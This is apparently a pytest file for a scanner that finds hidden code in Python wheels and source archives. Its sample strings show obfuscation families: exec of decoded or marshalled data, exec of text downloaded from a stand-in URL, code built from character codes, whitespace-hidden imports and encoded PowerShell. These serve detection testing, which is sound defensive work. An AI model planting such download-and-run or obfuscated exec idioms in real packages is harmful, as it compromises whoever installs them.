"""Hidden code in Python members: each family is recognised, honest code is not, and looking has an end."""

from __future__ import annotations

import sysconfig
from pathlib import Path

import pytest
import yara_x

from shared.formats.python.scan import ScanLimits, scan, slices
from tests.support.archives import TarEntry, raw_tar_gz, with_record, zip_of

FAMILIES = {
    "executes_decoded_text": [
        "exec(base64.b64decode('aGk='))",
        "eval(compile(zlib.decompress(DATA), '<x>', 'exec'))",
        "exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')(x)[0]))",
        "exec(bytes.fromhex('7072').decode())",
    ],
    "executes_marshalled_code": ["exec(marshal.loads(b'..'))", "exec(__import__('marshal').loads(x))"],
    "executes_downloaded_text": [
        "exec(urllib.request.urlopen('https://x.test/a').read())",
        "exec(requests.get(url).text)",
    ],
    "executes_joined_characters": [
        "exec(''.join(map(chr, [112, 114])))",
        "exec(''.join([chr(x) for x in y]))",
        "exec(chr(105)+chr(109))",
    ],
    "reversed_base64_lambda": ["_ = lambda __ : __import__('zlib').decompress(b64(__[::-1]));"],
    "code_far_to_the_right": ["x = 1" + " " * 300 + ";import os, sys"],
    "encoded_powershell": ["subprocess.run(['powershell', '-NoProfile', '-enc', '" + "QQ" * 40 + "'])"],
    "pyarmor": [
        "__pyarmor__(__name__, __file__, b'\\x50')",
        "from pkg.pyarmor_runtime_000000 import __pyarmor__",
    ],
}
HONEST = """
import base64, marshal, zlib, urllib.request
data = base64.b64decode(text)
code = marshal.loads(zlib.decompress(data))
exec(compile(source, filename, "exec"), namespace)
page = urllib.request.urlopen(url).read()
re.compile(base64.b64decode(pattern))
name = "".join(map(chr, numbers))
table = [1,                                                                                    2]
def evaluate(value): return ast.literal_eval(base64.b64decode(value))
"""


def _wheel(folder: Path, members: dict[str, bytes]) -> Path:
    path = folder / "wheel"
    path.write_bytes(zip_of(with_record("widget", "1.0", members)))
    return path


@pytest.mark.parametrize(("rule", "code"), [(rule, code) for rule, codes in FAMILIES.items() for code in codes])
def test_each_family_is_recognised_by_its_rule_alone(tmp_path: Path, rule: str, code: str) -> None:
    """The sentence names the member, the rule, and what the code does."""
    [sentence] = scan(_wheel(tmp_path, {"widget/a.py": f"import os\n{code}\n".encode()}), "bdist_wheel")
    assert sentence.startswith(f"scan: 'widget/a.py' looks like hidden code ({rule}): it ") or "a line has" in sentence
    assert sentence.endswith(".")


def test_honest_code_is_passed_over(tmp_path: Path) -> None:
    """The same functions in ordinary use, and hidden code in what Python does not run."""
    hidden = FAMILIES["pyarmor"][0].encode()
    assert scan(_wheel(tmp_path, {"widget/a.py": HONEST.encode(), "widget/data.txt": hidden}), "bdist_wheel") == ()


def test_the_standard_library_is_passed_over() -> None:
    """Two thousand files of honest code match no rule."""
    rules = Path(scan.__code__.co_filename).with_name("scan.yar").read_text("utf-8")
    scanner = yara_x.Scanner(yara_x.compile(rules))
    found = {
        str(path): [rule.identifier for rule in matching]
        for path in Path(sysconfig.get_path("stdlib")).glob("[a-z]*/**/*.py")
        if "site-packages" not in path.parts and (matching := scanner.scan(path.read_bytes()).matching_rules)
    }
    assert found == {}


def test_source_archives_are_looked_through(tmp_path: Path) -> None:
    """setup.py runs when the archive is built."""
    path = tmp_path / "sdist"
    hidden = FAMILIES["executes_downloaded_text"][0].encode()
    path.write_bytes(raw_tar_gz([TarEntry("w-1/PKG-INFO", hidden), TarEntry("w-1/setup.py", hidden)]))
    [sentence] = scan(path, "sdist")
    assert "'w-1/setup.py'" in sentence


def test_looking_has_an_end_and_says_so(tmp_path: Path) -> None:
    """Whoever hides behind a limit is not told to be clean."""
    hidden = FAMILIES["executes_decoded_text"][0].encode()
    path = _wheel(tmp_path, {"a.py": b"#" * 100 + b"\n" + hidden, "b.py": hidden})
    [first, second] = scan(path, "bdist_wheel", ScanLimits(member_bytes=100))
    assert first == "scan: of 'a.py' the first 100 bytes alone were looked at."
    assert "'b.py'" in second
    [stopped] = scan(path, "bdist_wheel", ScanLimits(total_bytes=100))
    assert stopped == "scan: it was stopped after 100 bytes; the rest was not looked at."
    [stopped] = scan(path, "bdist_wheel", ScanLimits(seconds=0))
    assert stopped == "scan: it was stopped after 0 seconds; the rest was not looked at."
    many = _wheel(tmp_path, {f"m{number}.py": hidden for number in range(500)})
    assert len(scan(many, "bdist_wheel")) == 21


def test_code_across_two_slices_is_recognised(tmp_path: Path) -> None:
    """A member is looked through piece by piece, and what lies across a border is whole in one of the pieces."""
    first, second, *_ = slices(bytes(range(256)) * 1024)
    border = len(first)
    for rule, [code, *_] in FAMILIES.items():
        hidden = f"\n{code}\n".encode()
        for before in range(border - len(hidden) - 1, border + 2, 7):
            member = b"#" * before + hidden + b"#" * len(second)
            found = scan(_wheel(tmp_path, {"a.py": member}), "bdist_wheel")
            assert [rule in sentence for sentence in found] == [True], (rule, before, found)


def test_a_word_that_is_cut_is_none_that_begins(tmp_path: Path) -> None:
    """Where a later piece begins within a word, its rest is not taken for the word's beginning."""
    first, second, *_ = slices(b"".join(number.to_bytes(4, "big") for number in range(1 << 18)))
    start = first.index(second[1:5]) - 1
    for before in range(start - 12, start + 1):
        member = b"#" * before + b" safe_exec(base64.b64decode(x))" + b"#" * len(second)
        assert scan(_wheel(tmp_path, {"a.py": member}), "bdist_wheel") == ()


def test_pieces_cover_all_bytes() -> None:
    """Whatever the length, each byte is in a piece, none is longer than the first, and short members are one piece."""
    size = len(next(slices(bytes(1 << 20))))
    for length in (0, 1, size - 1, size, size + 1, 2 * size, 3 * size + 5):
        data = b"\n" * length
        pieces = list(slices(data))
        assert max(map(len, pieces)) <= size
        assert len(pieces) == 1 or length > size
        assert sum(map(len, pieces)) >= length
        assert pieces[-1][1:] == data[length - len(pieces[-1]) + 1 :]
